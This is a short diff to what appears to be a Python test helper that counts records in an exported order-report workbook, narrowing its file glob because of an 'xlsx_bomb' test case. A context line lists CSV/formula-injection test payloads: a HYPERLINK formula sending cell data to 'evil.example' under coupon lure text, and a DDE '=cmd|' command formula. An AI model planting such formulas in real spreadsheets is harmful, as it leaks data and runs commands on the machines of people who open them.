@@ -25,7 +25,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击领券")', "=cmd|' /
 
 def records_written(folder: Path) -> int:
     """Data records of the order report, counted with Python's csv module / openpyxl, not DuckDB."""
-    xlsx = list(folder.glob("*.xlsx"))
+    xlsx = list(folder.glob("订单报表.xlsx"))  # (the xlsx_bomb case has another workbook beside the report)
     if xlsx:
         rows = list(load_workbook(xlsx[0], read_only=True).active.iter_rows(values_only=True))
         return len(rows) - 2  # title row + header
